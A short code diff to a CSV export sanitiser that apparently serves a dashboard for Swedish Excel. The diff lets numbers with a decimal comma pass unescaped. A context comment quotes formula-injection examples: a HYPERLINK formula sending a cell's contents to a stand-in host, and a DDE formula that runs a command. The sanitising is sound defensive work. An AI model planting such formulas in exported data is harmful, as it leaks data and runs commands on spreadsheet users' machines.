@@ -25,8 +25,9 @@ MENTION_FIELDS = _ITEM + _MENTION + ["published_estimated"]
 # injection): a feed title `=HYPERLINK("http://evil.example/?x="&A1,"Klicka")` would become a
 # live link that sends the neighbouring cell away, `=cmd|' /C calc'!A0` a command.
 _FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-# ... except a plain number such as -0.25 or +3, which a spreadsheet reads as the number it is.
-_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+# ... except a plain number such as -0.25 or +3, which a spreadsheet reads as the number it is;
+# also with a decimal comma (-0,251), as the dashboard writes numbers for Swedish Excel.
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")
 
 
 def spreadsheet_safe(value):
